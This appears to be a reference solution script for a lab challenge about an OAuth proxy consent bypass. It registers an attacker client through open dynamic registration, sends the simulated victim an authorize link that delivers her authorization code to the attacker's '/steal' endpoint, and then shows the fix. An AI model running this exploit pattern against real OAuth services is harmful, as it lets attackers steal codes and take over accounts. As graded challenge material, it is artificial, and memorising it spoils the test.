# A reference solution for challenge 17.consent. Register a client of your own with the proxy (anyone may: RFC 7591),
# its redirect URI on your site; alice's browser remembers her consent for the proxy's one static client id.
steal = f"{lab.flow.attacker.url}/steal"
mine = httpx.post(f"{lab.flow.proxy.url}/register", json={"redirect_uris": [steal]}, trust_env=False).json()
link = f"{lab.flow.proxy.url}/authorize?" + urlencode({"response_type": "code", "client_id": mine["client_id"],
                                                      "redirect_uri": steal, "state": "mine"})
lab.flow.victim.visit(link)                                   # alice clicks: no consent page anywhere
print(lab.flow.attacker.received[-1].path, "got a code:", "code" in lab.flow.attacker.received[-1].params)
lab.flow.disable("static_client_consent")                     # the proxy asks alice about each client first
print(lab.flow.victim.visit(link)[-1][0])                     # the same link: the proxy's consent page (200), no code
consent.check()
